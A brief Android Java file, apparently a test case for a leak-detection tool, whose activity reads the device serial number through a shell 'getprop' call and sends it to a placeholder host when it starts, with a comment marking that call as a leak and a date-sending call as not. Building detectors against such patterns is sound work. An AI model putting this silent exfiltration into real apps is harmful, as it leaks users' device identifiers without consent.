package habits;

import android.app.Activity;
import android.os.Bundle;
import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.URL;

/** What the shell tells. */
public class ExecProp extends Activity {
    private static String run(String command) throws Exception {
        Process process = Runtime.getRuntime().exec(command);
        BufferedReader reader = new BufferedReader(new InputStreamReader(process.getInputStream()));
        return reader.readLine();
    }

    @Override
    protected void onCreate(Bundle state) {
        try {
            new URL("https://e.example.org/?s=" + run("getprop ro.serialno")).openStream(); // leak
            new URL("https://e.example.org/?d=" + run("date")).openStream(); // no leak
        } catch (Exception ignored) {
        }
    }
}
